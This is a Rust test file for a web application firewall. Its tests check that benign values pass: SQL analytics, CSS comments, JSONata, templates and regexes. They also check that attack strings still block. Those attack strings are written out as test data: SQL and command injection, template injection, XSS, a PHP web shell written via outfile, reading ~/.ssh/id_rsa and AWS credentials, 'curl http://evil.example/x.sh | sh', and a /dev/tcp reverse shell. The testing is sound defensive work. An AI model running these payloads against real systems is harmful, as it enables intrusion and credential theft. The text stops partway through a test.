    assert!(!context::sql_statement(b"insert into t (a) values (1)"));
    assert!(!context::sql_statement(b"insert into t (a"));
    assert!(!context::sql_statement(b"insertinto t select 1"));
    assert!(!context::sql_statement(b"insert t select 1"));
    assert!(!context::sql_statement(b"1 insert into t select 1"));
    let sql = "INSERT INTO mart.daily_revenue (ds, region, revenue)\nSELECT o.order_date, c.region, SUM(o.total_cents) / 100.0\nFROM staging.orders o\nJOIN staging.customers c ON c.id = o.customer_id\nWHERE o.order_date = '{{ ds }}' AND o.status <> 'cancelled'\nGROUP BY 1, 2;";
    for o in both(sql) {
        assert!(!o.blocked && rule(&o, 4213).is_none(), "{o:?}");
    }
    let o = json_post(&pl2, &serde_json::json!({ "v": sql }).to_string());
    assert!(o.blocked, "{o:?}");
    // Enumeration after data, in a statement that breaks out or stacks one, a stacked INSERT,
    // and an INSERT whose query reads files, sleeps or unions still block.
    for q in [
        "1 order by 5-- insert into t select 1",
        "x'; insert into users select * from admins--",
        "1; insert into users (a) select password from admins",
        "insert into t (a) values (1); drop table users",
        "insert into t select 1 union select password from users",
        "insert into t (a) select load_file('/etc/passwd')",
        "insert into t select sleep(5)",
        "insert into t (a) select 1 from x where a = 'b' order by 3--'",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout21_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let pl2 = waf_with(r#"{"paranoia_level":2}"#);
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A Handlebars expression with a segment literal `.[` (a mock server's response template)
    // is no Jinja or Twig expression: the names of their globals are data paths in it (3600).
    for v in [
        r#"{"id": {{request.pathSegments.[1]}}, "name": "{{randomValue type='ALPHANUMERIC' length=8}}"}"#,
        "{{request.query.[search]}}",
        "trace {{request.headers.[X-Request-Id]}} ok",
        "{{ request.path.[2] }}",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "body": v }).to_string());
        assert!(!o.blocked && rule(&o, 3600).is_none(), "{v}: {o:?}");
        // At PL2 a placeholder in a value still scores (3605, 4111), as designed; 3600 does not.
        let o = json_post(&pl2, &serde_json::json!({ "body": v }).to_string());
        assert!(rule(&o, 3600).is_none(), "{v}: {o:?}");
    }
    // Without the segment literal, with `constructor`, a dunder, `attr(`, arithmetic or a bracket
    // on the global itself, and in a second expression, the template still scores.
    for q in [
        "{{request}}",
        "{{request.environ}}",
        "{{config.items()}}",
        "{{ticket.request}}",
        "{{request['application']['\\x5f\\x5fglobals\\x5f\\x5f']}}",
        "{{request.application.__globals__.__builtins__}}",
        "{{request|attr('application')}}",
        "{{this.[constructor].[constructor]}}",
        "{{request.x.[1]}}{{config}}",
        "{{a.[1]}} {{self}}",
        "{{x.[0]}}{{7*7}}",
        "{{request.args.x}}{{request.args.y}}",
        "{{lipsum.[__globals__]}}",
        "{{this.[__proto__].[polluted]}}",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "v": q }).to_string());
        assert!(rule(&o, 3600).is_some() && o.blocked, "{q}: {o:?}");
    }
}

#[test]
fn holdout22_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let pl2 = waf_with(r#"{"paranoia_level":2}"#);
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // `system` or `runtime` followed by a space and a parenthetical of English text is no call
    // (4404): a piano technician's service note, a column heading, a film's runtime rule.
    for v in [
        "Pins are loose-ish in the tenor section -- recommend a humidity control system (Dampp-Chaser) before the next visit.",
        "We installed a new filtration system (Pentair) last year and it works great.",
        "the system (as designed) fails",
        "Runtime (incl. credits) must be under 40 minutes",
        "Runtime (mins)",
        "operating system (macOS or Windows)",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "notes": v }).to_string());
        assert!(!o.blocked && rule(&o, 4404).is_none(), "{v}: {o:?}");
        let o = json_post(&pl2, &serde_json::json!({ "notes": v }).to_string());
        assert!(rule(&o, 4404).is_none(), "{v}: {o:?}");
    }
    // A call with a code-like argument (a quote, `$`, `@`, a backtick, a digit, a call, nothing)
    // or with `(` glued to the name still matches, in prose too; the bare constant after a space
    // is left to PHP's 3301 outside prose.
    for q in [
        "system('id')",
        "system(id)",
        "system (\"cat /etc/passwd\")",
        "system ( 'id' )",
        "system ($_GET['c'])",
        "system (@$_GET[c])",
        "system (`id`)",
        "system (chr(105).chr(100))",
        "system (base64_decode('aWQ='))",
        "system (-1)",
        "system ()",
        "System.exit(0)",
        "System . getenv('AWS_SECRET')",
        "Runtime.getRuntime().exec('id')",
        "runtime ('id')",
        "Runtime()",
        "runtime (exec('id'))",
        "Thanks for the fix, I ran system('id') on the box and it printed the uid of the web server user",
        "Thanks for the fix, I ran system ('id') on the box and it printed the uid of the web server user",
        "Great post. By the way Runtime.getRuntime().exec(cmd) is how the plugin launches the helper binary",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "v": q }).to_string());
        assert!(o.blocked && rule(&o, 4404).is_some(), "{q}: {o:?}");
    }
    for q in ["system (id)", "system (whoami)", "; system (id)"] {
        let o = json_post(&waf, &serde_json::json!({ "v": q }).to_string());
        assert!(o.blocked && rule(&o, 3301).is_some(), "{q}: {o:?}");
    }
}

#[test]
fn holdout23_shapes_pass_and_their_attacks_still_score() {
    // Holdout23 (fresh set) needed no rule change. Its values next to attack shapes that pass at
    // PL1 (CRS blocks the first three: 942100, 933210, 941130), and the attacks beside them.
    let waf = waf_with("{}");
    for v in [
        "lumber index +6% (Random Lengths wk 47)",
        "Hi -- we're a community orchestra (non-profit, 501(c)(3)). Could we get the parts by mid-March?",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "#8 x 1-5/8\" DECK SCRW 1LB",
        "2x4x8' SPF #2 (stud)",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "desc": v }).to_string());
        assert!(!o.blocked, "{v}: {o:?}");
    }
    // Left blocked (`2x4x8' #2 SPF (stud)`, 4208 and 4200): a foot mark then ` #2` is the shape of
    // a quote closed and the rest commented out (MySQL `#`), whatever precedes the quote or follows
    // the `#`. These stay critical.
    for q in [
        "1' #1",
        "5' #2 spf",
        "admin' #",
        "2x4x8' or 1=1 #2",
        "2x4x8'; drop table items #2",
        "lumber index +6% (Random Lengths wk 47)' or '1'='1",
        "501(c)(3)'; drop table users; --",
        "#8 x 1-5/8\" or 1=1 --",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "desc": q }).to_string());
        assert!(o.blocked, "{q}: {o:?}");
    }
}

#[test]
fn holdout24_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let both = |v: &str| as_field_and_query(&waf, v);

    // A code snippet's comment lines are no glob of the root: `/* … */` opening a line of a
    // stylesheet, a C or JavaScript file (3205 is weak there, one program's signal).
    for v in [
        ".incident-title { font-weight: 600; }\n.component-status[data-status=\"major_outage\"] { color: #d93025; }\n/* hide the powered-by footer on the custom domain */\n.powered-by { display: none !important; }",
        "/* reset */\nbody {\n  margin: 0;\n}\n/* brand */\n.btn { color: #0b3d91; }",
        "int main(void) {\n    /* the buffer is freed by the caller */\n    return parse(buf);\n}",
        "/**\n * Formats a price.\n */\nexport function price(cents) {\n  return (cents / 100).toFixed(2);\n}",
    ] {
        for o in both(v) {
            assert!(!o.blocked && rule(&o, 3205).is_none_or(|s| s < 5), "{v}: {o:?}");
        }
    }
    // An unclosed `/*`, a glob outside the comments, a comment in a one-line value (no code
    // snippet) and a snippet that reaches the system still block.
    for q in [
        ".a { color: red; }\n.b { margin: 0; }\n.c { x: 1; } /* x",
        ".a { color: red; }\n/* c */\n.b { margin: 0; }\ncat /e??/p?ss?d;",
        "a {\n  b;\n}\n/* x */ /???/??t /???/p??s??d",
        "x;\ny;\n/* c */ ls /*/bin;",
        "9999 or /* x */",
        "; ls /* */",
        "rm -rf /*",
        "a {\n  b;\n}\n/* x */ rm -rf /*",
        // A comment glued inside a line splits a PHP call (CRS 933180's test).
        "$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)",
        ".a { color: red; }\n.b { margin: 0; }\n.c { x: 1; } /* x */ ls /*/bin",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout25_shapes_pass_and_their_attacks_still_score() {
    // Holdout25 (the twenty-first round) had no false positive at PL1 untouched: no rule changed.
    // Its seven values that scored one weak signal are pinned here, each as a JSON field and as a
    // query argument, next to the attacks of the same shape, so that a later round's relaxation
    // that lets the attacks through, or a sharpening that blocks the shapes, shows here.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    for v in [
        // A host's message: a quoted Wi-Fi name, then `--` in prose (4208 weak).
        "Hi Grace! The key safe is on the left of the blue door, code is in your check-in email. The Wi-Fi name is \"Cottage_5G\" -- password's on the fridge. Any problems give me a shout, I'm 10 min away.",
        // A form builder's response filter (4201 weak).
        "q3 = 'Student' AND submitted_at >= '2026-11-01'",
        // Product analytics: SQL with a `--` comment line, HogQL on one line (4201, 4214 weak).
        "SELECT properties.$browser AS browser, count() AS pageviews\nFROM events\nWHERE event = '$pageview'\n  AND timestamp > now() - INTERVAL 7 DAY\n  -- exclude our own office traffic\n  AND properties.$ip NOT IN ('81.2.69.160', '81.2.69.161')\nGROUP BY browser\nORDER BY pageviews DESC\nLIMIT 20",
        "select toStartOfWeek(timestamp) as week, uniq(person_id) as users, countIf(event = 'report_exported') / count() as export_rate from events where timestamp >= '2026-09-01' and properties.plan != 'free' group by week order by week",
        // A workflow's Postgres node with a template placeholder.
        "SELECT c.id, c.email, max(o.created_at) AS last_order\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\nWHERE c.marketing_opt_in = true\nGROUP BY c.id, c.email\nHAVING max(o.created_at) < now() - interval '90 days'\nLIMIT {{ $json.batchSize }};",
        // A form theme's CSS with a comment line (3205 weak since the twentieth round).
        ".fw-button { border-radius: 999px; }\n.fw-question h2 { letter-spacing: -0.01em; }\n/* hide the progress bar on mobile */\n@media (max-width: 480px) { .fw-progress { display: none; } }",
        // An edge function reading `process.env` in a snippet (3401 weak).
        "export default async (req) => {\n  const url = new URL(req.url);\n  const upstream = new URL(url.pathname.replace(/^\\/api/, ''), process.env.UPSTREAM);\n  upstream.search = url.search;\n  return fetch(upstream, { method: req.method, headers: { accept: 'application/json' } });\n};",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for q in [
        "Cottage_5G\" --",
        "admin\" -- ",
        "Student' AND 1=1 --",
        "x' or '1'='1",
        "2026-11-01' and sleep(5)--",
        "1' union select password from users --",
        "1; select pg_sleep(5)--",
        "process.env",
        "require('child_process').exec('id')",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout26_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let both = |v: &str| as_field_and_query(&waf, v);

    // A JSONata expression calls its built-in functions with `$` (`$sum(`, `$count(`): weak
    // evidence for 3305, one program's signal.
    for v in [
        "$sum(Account.Order.Product.(Price * Quantity))",
        "$count(Product)",
        "$round($sum(Product.(Price * Quantity)), 2)",
        "$join($map(items, function($v) { $uppercase($v.name) }), ', ')",
        "$substringBefore(email, '@') & ' <' & $lowercase(email) & '>'",
    ] {
        for o in both(v) {
            assert!(!o.blocked && rule(&o, 3305).is_none_or(|s| s < 5), "{v}: {o:?}");
        }
    }
    // A variable that is no JSONata function called, a statement (`;`), `${…}`, a parenthesised,
    // quoted or indexed name called, and PHP functions inside the calls still block.
    for q in [
        "$sum(x) $a('id')",
        "$f='system';$f('id')",
        "$sum=\"system\";$sum(\"id\")",
        "$sum(1);system('id')",
        "$sum(x) $f{0}('id')",
        "$sum(x) $f[0]('id')",
        "$sum(x) ('sys'.'tem')('id')",
        "$sum(x)(system)('id')",
        "$sum(x) 'system'('id')",
        "$sum(x) ${system('id')}",
        "$sum(x) $(id)",
        "$count(`id`)",
        "$sum(system('id'))",
        "$count(shell_exec('id'))",
        "$map($_GET[0], 'system')",
        "$filter(phpinfo())",
        "$sum(base64_decode('c3lzdGVt')('id'))",
        "$eval('x')",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }

    // An address list with display names (an inbound e-mail's `To`) is no SQL for the tokenizer
    // (4200), a plus-addressed local part included.
    for v in [
        "\"Harborline Billing\" <billing+INV-2026-1187@inbound.harborline.example>",
        "\"Billing\" <billing+inv-1@x.example>, \"Ops\" <ops+a-2@x.example>",
        "\"Doe, Jane\" <jane.doe+2026-q4@example.com>",
    ] {
        assert!(context::mailboxes(&v.to_ascii_lowercase().into_bytes()), "{v}");
        for o in both(v) {
            assert!(!o.blocked && rule(&o, 4200).is_none(), "{v}: {o:?}");
        }
    }
    // A quote, a comment, a statement or a condition around or inside the list still blocks.
    for q in [
        "\"x\" <a@b.c>' or '1'='1",
        "\"x' or 1=1 -- \" <a@b.c>",
        "\"x\" or \"1\"=\"1\" <a@b.c>",
        "\"a\"; drop table users; <a@b.c>",
        "\"x\" <a@b.c>; select pg_sleep(5)",
        "\"x\" <a@b.c> union select password from users",
        "admin\" or 1=1 <a@b.c>",
        "\" or \"\"=\" <a@b.c>",
        "1\" <a@b.c> or \"1\"=\"1",
    ] {
        assert!(!context::mailboxes(&q.to_ascii_lowercase().into_bytes()), "{q}");
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout27_shapes_pass_and_their_attacks_still_score() {
    // Holdout27 (the twenty-third round, a set written blind) had no false positive at PL1
    // untouched: no rule changed. Its one value that scored a weak signal (4208: a quoted phrase,
    // then `--` in prose) is pinned here with two quote-and-dash shapes of the set that score
    // nothing at PL1, each as a JSON field and as a query argument, next to the attacks of the
    // same shapes, so that a later round's relaxation that lets the attacks through, or a
    // sharpening that blocks the shapes, shows here.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    for v in [
        // A dating app's comment on a prompt: a quoted phrase, then `--` (4208 weak).
        "ok but \"pineapple on pizza is a personality\" -- are you pro or anti? this is a dealbreaker question 🍍",
        // A moderator's note: `--`, then a quoted `<3` (nothing at PL1; 4223 at PL2).
        "fine -- 'xoxo <3' is from her niece",
        // Book-club questions quoting the novel, `")` then `--` (nothing at PL1; 4228 at PL2).
        "Questions for Thursday:\n\n1. Is Lydgate's marriage doomed from the start, or does Rosamond get a bad rap?\n2. Eliot's narrator keeps stepping in (\"we mortals...\") -- does that work for you?\n3. Favorite line so far? Mine: \"What do we live for, if it is not to make life less difficult to each other?\"\n\nSnacks: @karen is bringing her lemon bars 🍋 (thank you!!)",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for q in [
        "pineapple\" -- ",
        "personality\" or \"1\"=\"1\" -- ",
        "ok but \"pineapple on pizza\"; drop table users -- are you pro or anti? this is a dealbreaker question",
        "ok but \"pineapple\" -- <script>alert(1)</script> are you pro or anti?",
        "fine -- 'xoxo' or '1'='1' -- from her niece",
        "fine' or 1=1 -- ",
        "LOOK UNDER THE VASE') or ('1'='1",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout28_shapes_pass_and_their_attacks_still_score() {
    // Holdout28 (the twenty-fourth round, written blind): a database console's migration sends
    // its `up` and `down` as two values, each a script that starts with a schema statement. Each
    // scored one weak SQL signal (no breakout) and the two added up. A value that starts with a
    // statement head (`alter table`, `create index`, `drop index`, `insert into`, `delete from`,
    // `update NAME set`) is now a program by design, as a value that starts with `select` was:
    // several such values are one piece of evidence. A value that breaks out, stacks a statement
    // after data, or reaches the system still blocks, beside a migration or inside one.
    let waf = waf_with("{}");
    let migration = serde_json::json!({
        "name": "20261129_add_invoice_pdf_url",
        "up": "ALTER TABLE invoices ADD COLUMN pdf_url text;\nCREATE INDEX CONCURRENTLY idx_invoices_customer_created ON invoices (customer_id, created_at DESC);",
        "down": "DROP INDEX CONCURRENTLY IF EXISTS idx_invoices_customer_created;\nALTER TABLE invoices DROP COLUMN pdf_url;",
    });
    let o = json_post(&waf, &migration.to_string());
    assert!(!o.blocked, "{o:?}");
    let seeds = serde_json::json!({
        "schema": "CREATE TABLE audit_log (id bigserial primary key, actor text not null, action text);",
        "seed": "INSERT INTO audit_log (actor, action) VALUES ('scheduler', 'init');",
        "fix": "UPDATE users SET plan = 'pro' WHERE id = 42;",
        "purge": "DELETE FROM sessions WHERE expires_at < now();",
    });
    let o = json_post(&waf, &seeds.to_string());
    assert!(!o.blocked, "{o:?}");
    for (v, expected) in [
        ("ALTER TABLE invoices ADD COLUMN pdf_url text;", true),
        ("create unique index i on t (a)", true),
        ("CREATE OR REPLACE VIEW v AS SELECT 1", true),
        ("-- down\nDROP INDEX IF EXISTS i;", true),
        ("insert into t (a) values (1)", true),
        ("delete from sessions", true),
        ("update users set a = 1", true),
        ("create an account first", false),
        ("drop me a line", false),
        ("update the docs set to go out friday", false),
        ("1; drop table users", false),
        ("x'; update users set a = 1", false),
    ] {
        assert_eq!(context::sql_migration(v.to_ascii_lowercase().as_bytes()), expected, "{v}");
    }
    for attack in [
        serde_json::json!({ "up": "ALTER TABLE t ADD COLUMN c text;", "name": "1' or '1'='1" }),
        serde_json::json!({ "up": "ALTER TABLE t ADD COLUMN c text;", "q": "1 union select password from users" }),
        serde_json::json!({ "up": "ALTER TABLE t ADD COLUMN c text;", "q": "1; drop table users" }),
        serde_json::json!({ "up": "CREATE TABLE t (a int);", "q": "; ls -la" }),
        serde_json::json!({ "v": "drop table users; cat /etc/passwd" }),
        serde_json::json!({ "v": "create table x (a int); <script>alert(1)</script>" }),
        serde_json::json!({ "v": "insert into users values ('a'); exec xp_cmdshell 'whoami'" }),
        serde_json::json!({ "v": "alter table t add column c text; select sleep(5)" }),
        serde_json::json!({ "v": "update users set role='admin' where name='x' or '1'='1'" }),
        serde_json::json!({ "v": "create table x (a int); select 1 union select password from users --" }),
        serde_json::json!({ "v": "CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id';" }),
        serde_json::json!({ "v": "create index i on t (a); select load_file('/etc/passwd')" }),
        serde_json::json!({ "v": "insert into t select '<?php system($_GET[c]); ?>' into outfile '/var/www/html/x.php'" }),
    ] {
        let o = json_post(&waf, &attack.to_string());
        assert!(o.blocked, "{attack}: {o:?}");
    }
}

#[test]
fn holdout31_shapes_pass_and_their_attacks_still_score() {
    // Holdout31 (a set written blind): four general shapes that blocked at PL1 untouched, each as
    // a JSON field and as a query argument, next to attacks written around the relaxed shape,
    // which must block.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    let k6 = "import http from 'k6/http';\nimport { sleep } from 'k6';\n\nconst BASE = __ENV.BASE_URL || 'https://staging.shop.example';\n\nexport default function () {\n  const res = http.get(`${BASE}/api/products?category=shoes&page=2`);\n  sleep(1);\n}\n";
    let runbook = "# Runbook: duplicate charges\n\n## Check\n\n```sql\nSELECT idempotency_key, count(*) AS n\nFROM charges\nWHERE created_at > now() - interval '2 hours'\nGROUP BY idempotency_key\nHAVING count(*) > 1;\n```\n\n## Mitigate\n\n1. `kubectl -n payments rollout restart deploy/payments-api`\n2. Refund the duplicates.\n";
    let view = "<View>\n  <Text name=\"text\" value=\"$review_text\"/>\n  <Choices name=\"topic\" toName=\"text\" choice=\"multiple\">\n    <Choice value=\"Shipping\"/>\n  </Choices>\n  <Labels name=\"spans\" toName=\"text\">\n    <Label value=\"Complaint\" background=\"#ff4d4f\"/>\n  </Labels>\n  <TextArea name=\"comment\" toName=\"text\" placeholder=\"Anything odd?\" editable=\"true\"/>\n</View>";
    for v in [
        // 3301: a PHP function name before a parenthesis holding a compound word.
        "lithium-ion battery pack (e-bike), 36V 13Ah",
        "lead apron for the file (x-ray) room",
        // 3208: a placeholder that starts a path, in a program (a k6 script, a shell script).
        k6,
        "#!/bin/sh\nset -e\ncp \"${SRC}/app.conf\" \"${DST}/app.conf\"\nls -la \"${DST}/\"\n",
        // Weak signals: Markdown whose examples are fenced code (an SQL query and a command span).
        runbook,
        // 4104: an XML document of its own vocabulary with a form control (a labeling config).
        view,
        "<?xml version=\"1.0\"?>\n<LinearLayout orientation=\"vertical\">\n  <Button id=\"ok\" text=\"OK\"/>\n  <Input name=\"qty\" type=\"number\"/>\n</LinearLayout>",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    let with = |v: &str, from: &str, to: &str| {
        assert!(v.contains(from), "{from}");
        v.replacen(from, to, 1)
    };
    for q in [
        "system (id)".to_string(),
        "system (e - bike)".into(),
        "passthru (x-1)".into(),
        "system (e-$x)".into(),
        "system(e-bike)".into(),
        "pack (e-bike); system('id')".into(),
        "shell_exec (e-bike) ; passthru (whoami)".into(),
        // 3208 in a program: spliced into a word, IFS, a brace list, a file read.
        with(k6, "  sleep(1);", "  const x = `/e${u}tc/pa${u}sswd`;"),
        with(k6, "  sleep(1);", "  exec('cat${IFS}${BASE}/x');"),
        with(k6, "  sleep(1);", "  ;{cat,/etc/passwd};"),
        with(k6, "  sleep(1);", "  const s = '$(<${HOME}/.aws/credentials)';"),
        with(k6, "  sleep(1);", "  const s = `${u}tc/x`;"),
        "x;\ny;\n/bin/c${u}at /e${u}tc/pa${u}sswd;\n".into(),
        "a();\nb();\ncurl ${HOST}/x.sh | sh;\n".into(),
        "http.get(`${BASE}/api/products`)".into(),
        ";cat ${HOME}/.ssh/id_rsa".into(),
        "foo;\nbar;\ncat ~+/secret;\n".into(),
        // Markdown with fenced examples: a breakout, commands that reach the system.
        with(runbook, "interval '2 hours'", "interval '2 hours' union select password from users--"),
        "x' group by 1 having 1=1--\n\n```sql\nselect 1\n```\nsee the query above please".into(),
        "Nice post' or '1'='1\n\n```\nls -la\n```\n\nthe command above lists files".into(),
        "Report:\n\n```sh\ncurl http://evil.example/x.sh | sh\n```\n\nand `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` now".into(),
        // A vocabulary of its own only with inert markup: handlers, frames, forms, loads, styles.
        with(view, "editable=\"true\"/>", "editable=\"true\" onfocus=\"alert(1)\" autofocus=\"true\"/>"),
        with(view, "<TextArea", "<iframe src=\"https://evil.example/\"></iframe><TextArea"),
        format!("{view}<script>alert(1)</script>"),
        with(view, "<TextArea name=\"comment\"", "<TextArea name=\"comment\" style=\"position:fixed;top:0\""),
        with(view, "<TextArea", "<form action=\"https://evil.example/\"><input name=\"p\"/></form><TextArea"),
        with(view, "<TextArea", "<button formaction=\"https://evil.example/\">go</button><TextArea"),
        with(view, "<TextArea", "<a href=\"javascript:alert(1)\">x</a><TextArea"),
        with(view, "<TextArea", "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\"/><TextArea"),
        with(view, "editable=\"true\"/>", "editable=\"true\">"),
        "<View><textarea name=\"x\" placeholder=\"y\"></View>".into(),
        "<div><textarea name=\"x\" placeholder=\"y\"/></div>".into(),
        "<textarea name=\"x\" placeholder=\"y\"/>".into(),
        "\"><View><TextArea name=\"a\"/></View>".into(),
        "<View><object data=\"https://evil.example/x.swf\"/></View>".into(),
        "<View><video src=\"https://evil.example/x.mp4\"/><Text name=\"t\" value=\"$t\"/></View>".into(),
        "<View><input type=\"image\" src=\"https://evil.example/x.png\"/></View>".into(),
        "<View><animate attributeName=\"href\" to=\"javascript:alert(1)\"/></View>".into(),
        // XML processors that fetch: XInclude and XSLT, prefixed or as the default namespace.
        "<acp xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/foo\"/></acp>".into(),
        "<acp xmlns=\"http://www.w3.org/2001/XInclude\"><include href=\"secret.txt\" parse=\"text\"/></acp>".into(),
        "<doc xmlns=\"http://www.w3.org/1999/XSL/Transform\"><value-of select=\"document('http://evil.example/')\"/></doc>".into(),
    ] {
        for o in both(&q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout29_shapes_pass_and_their_attacks_still_score() {
    // Holdout29 (the twenty-fifth round, a set written blind): three general shapes that blocked
    // at PL1 untouched, each as a JSON field and as a query argument (the robots.txt also as the
    // text body it was), next to attacks written around the relaxed shape, which must block.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    for v in [
        // 4201: an operator quoted as a literal after `and`/`or` (a Markdown code span, a quote).
        "## Fixed\n\n- Comments with `<` and `>` render correctly instead of as `&lt;`/`&gt;`.",
        "use `!=` or `<>` in the filter, and `=` or `==` for equality",
        "the characters '<' and '>' must be escaped",
        // 3205: `/*?` that starts a query (a robots.txt rule, a CDN rule).
        "Disallow: /*?sort_by=",
        "/*?utm_source=",
        // Inert markup: a slash between CSS values in a style attribute (font shorthand, ratio).
        "<div style=\"padding:0.25in;font:14px/1.4 Helvetica,Arial,sans-serif\"><p>Holiday hours: Mon&ndash;Sat 7am&ndash;6pm.</p></div>",
        "<p style=\"aspect-ratio: 16/9; font: 700 12px/1.2 Georgia\">Hi</p>",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    let robots = "User-agent: *\nDisallow: /cart\nDisallow: /*?sort_by=\nDisallow: /admin/\nAllow: /admin/public-assets/\n\nSitemap: https://shop.example/sitemap.xml\n";
    let o = post("/v1/check/robots", "text/plain", robots, &waf);
    assert!(!o.blocked, "{o:?}");
    for q in [
        "x' or ''='",
        "x' or ' '='",
        "x` or `a`=`a",
        "x\" or \"\"=\"",
        "x' or '<'<'=",
        "x' or '='='",
        "1` or `>`=`>",
        "Comments with `<` and `>` render' or 'a'='a",
        "') or ('='",
        "cat /*?/passwd",
        "; ls /*?",
        "; cat /*??",
        "x; /*?in/?at /e?c/p?ss?d",
        "; /*?x",
        "; echo /*?a=1",
        "Disallow: /*?sort_by= ; cat /e?c/p?ss?d",
        "<div style=\"font:14px/1.4 x;background:url(//evil.example/x.png)\">hi</div>",
        "<div style=\"pos/**/ition:fixed;top:0\">hi</div>",
        "<div style=\"width:100%/**/;position:fixed\">x</div>",
        "<div style=\"font:14px/1.4 x\" onmouseover=\"alert(1)\">hi</div>",
        "<div style=\"behavior:url(x.htc)/2\">x</div>",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout30_shapes_pass_and_their_attacks_still_score() {
    // Holdout30 (the twenty-sixth round, a set written blind): four shapes of developer products
    // that blocked at PL1 untouched, each as a JSON field and as a query argument, next to
    // attacks written around the relaxed shape, which must still block.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let verbose = "(?x)\n  ^(?P<key>[a-z_][a-z0-9_]*)   # key\n  \\s*=\\s*\n  \"(?P<val>(?:[^\"\\\\]|\\\\.)*)\"  # quoted value with escapes\n  $";
    for v in [
        // 3205: a wildcard glued to an identifier's `_` or digit (a policy's resource pattern).
        "prj_*/staging/*",
        "team_42*/reports/*",
        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:app_*/prod/*",
        // 3600: Go's text/template `range` over a `$variable` or a `.Field` (Helm, alert templates).
        "{{ range $k, $v := .Secrets }}{{ $k }}={{ $v }}\n{{ end }}",
        "{{- range .Items }}{{ .Name }}: {{ .Value }}\n{{ end -}}",
        "{{ range $i, $e := .Alerts }}{{ $e.Labels.alertname }} on {{ $e.Labels.instance }}\n{{ end }}",
        // 1016: a regex's group, bracket expression or escape repeated before `)`.
        "^(0|[1-9]\\d*)\\.(0|[1-9]\\d*)\\.(0|[1-9]\\d*)(?:-((?:0|[1-9]\\d*|\\d*[a-zA-Z-][0-9a-zA-Z-]*)(?:\\.(?:0|[1-9]\\d*|\\d*[a-zA-Z-][0-9a-zA-Z-]*))*))?(?:\\+([0-9a-zA-Z-]+(?:\\.[0-9a-zA-Z-]+)*))?$",
        "^([A-Z][a-z]*)(\\s+[A-Z][a-z]*)*$",
        "^(\\w*)(@)([a-z0-9-]+\\.)*[a-z]{2,}$",
        // 4208: a verbose-mode pattern's comment after a quoted literal (one weak signal).
        verbose,
        "(?xi) ^ \"([^\"]*)\" # the name in quotes\n \\s+ (\\d+) # its age",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for o in both(verbose) {
        assert!(rule(&o, 4208) == Some(3), "{o:?}");
    }
    let glued = format!("{verbose}\n  admin'#");
    for q in [
        "; cat /e?c/p?ss?d",
        "cat prj_*/../../../e?c/p?ss?d",
        "; ls prj_*/*",
        "/???/c?t /e??/p??s??",
        "prj_*/staging/*; cat /etc/passwd",
        "a;c?t x_*/e?c/passwd",
        "x_*/bin/sh -c id",
        "{{ range.__init__.__globals__ }}",
        "{{ range(10)|list }}",
        "{{ range }}",
        "{{ range | attr('__class__') }}",
        "{{ range[0] }}",
        "{{ range $x := .Y }}{{ config.items() }}{{ end }}",
        "{{ range $k := lipsum.__globals__ }}{{ $k }}{{ end }}",
        "{{ range $x := .X }}{{ 7*7 }}{{ end }}",
        "{{ range $k, $v := .Secrets }}{{ self }}{{ end }}",
        "{{ range $k := .__class__.__mro__ }}{{ end }}",
